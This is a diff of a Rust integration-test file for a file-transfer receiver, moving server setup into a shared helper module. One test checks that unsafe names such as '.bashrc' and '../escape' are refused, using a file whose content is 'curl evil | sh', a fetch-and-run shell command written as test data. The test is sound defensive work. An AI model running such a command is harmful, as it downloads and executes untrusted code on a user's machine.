@@ -6,7 +6,6 @@
 //! receiver's part file ends.
 
 use std::path::{Path, PathBuf};
-use std::time::Duration;
 
 use bytes::Bytes;
 use futures_util::{SinkExt, StreamExt};
@@ -14,7 +13,6 @@ use socketkit::client::{Sender, Source};
 use socketkit::protocol::exec::{ClientHello, ErrorMessage, Refusal};
 use socketkit::protocol::transfer::{Accept, Offer, Start};
 use socketkit::protocol::{Frame, FrameCodec, FrameType, VERSION};
-use socketkit::server::{Server, ServerConfig, ServerHandle};
 use socketkit::services::exec::{AuthPolicy, Token};
 use socketkit::services::recv::{Recv, RecvPolicy};
 use socketkit::transport::{self, ConnectOptions};
@@ -22,22 +20,15 @@ use socketkit::Endpoint;
 use tokio::io::AsyncWriteExt;
 use tokio_util::codec::Framed;
 
+mod util;
+use util::PATIENCE;
+
 const TOKEN: &str = "library-test-token";
 
-/// Bound for anything a test waits on: generous, because the machine is
-/// shared; a correct run takes milliseconds.
-const PATIENCE: Duration = Duration::from_secs(30);
-
+/// The receiver and its directory.
 struct Running {
-    endpoint: Endpoint,
-    handle: ServerHandle,
+    server: util::Running,
     inbox: tempfile::TempDir,
-}
-
-impl Drop for Running {
-    fn drop(&mut self) {
-        self.handle.shutdown();
-    }
 }
 
 impl Running {
@@ -64,18 +55,8 @@ async fn start() -> Running {
         ..AuthPolicy::default()
     };
     let recv = Recv::new(RecvPolicy::new(inbox.path().to_owned(), auth)).unwrap();
-    let server = Server::bind(
-        &["tcp://127.0.0.1:0".parse().unwrap()],
-        ServerConfig::default(),
-    )
-    .await
-    .unwrap();
-    let endpoint = server.endpoints().next().unwrap().clone();
-    let handle = server.handle();
-    tokio::spawn(server.serve(recv));
     Running {
-        endpoint,
-        handle,
+        server: util::start(|server| server.serve(recv)).await,
         inbox,
     }
 }
@@ -127,7 +108,7 @@ async fn a_file_arrives_byte_exact() {
     // Over three data chunks, and not a multiple of any chunk size.
     let bytes = content(3 * 1024 * 1024 + 17);
     let path = source_file(local.path(), "data.bin", &bytes);
-    let mut sender = sender(&receiver.endpoint).await;
+    let mut sender = sender(&receiver.server.endpoint).await;
     let sent = send(&mut sender, &path, "data.bin").await.unwrap();
     assert_eq!(sent.bytes, bytes.len() as u64);
     assert_eq!(sent.resumed_from, 0);
@@ -144,7 +125,7 @@ async fn unsafe_names_are_typed_refusals_and_the_connection_goes_on() {
     let receiver = start().await;
     let local = tempfile::tempdir().unwrap();
     let path = source_file(local.path(), "payload", b"curl evil | sh\n");
-    let mut sender = sender(&receiver.endpoint).await;
+    let mut sender = sender(&receiver.server.endpoint).await;
     for name in [".bashrc", "../escape", "dir/file", ""] {
         let error = send(&mut sender, &path, name).await.unwrap_err();
         let refusal = error
@@ -169,10 +150,7 @@ async fn a_transfer_cut_off_mid_file_resumes_where_it_stopped() {
     let half = 1024 * 1024;
     let path = source_file(local.path(), "big.bin", &bytes);
 
-    let Endpoint::Tcp(hp) = &receiver.endpoint else {
-        panic!("not TCP: {}", receiver.endpoint)
-    };
-    let tcp = tokio::net::TcpStream::connect(hp.to_string())
+    let tcp = tokio::net::TcpStream::connect(receiver.server.addr())
         .await
         .unwrap();
     let mut wire = Framed::new(tcp, FrameCodec::new());
@@ -214,7 +192,7 @@ async fn a_transfer_cut_off_mid_file_resumes_where_it_stopped() {
     );
     assert!(receiver.names().is_empty(), "{:?}", receiver.names());
 
-    let mut sender = sender(&receiver.endpoint).await;
+    let mut sender = sender(&receiver.server.endpoint).await;
     let sent = send(&mut sender, &path, "big.bin").await.unwrap();
     assert_eq!(sent.resumed_from, half as u64);
     assert_eq!(sent.bytes, bytes.len() as u64);
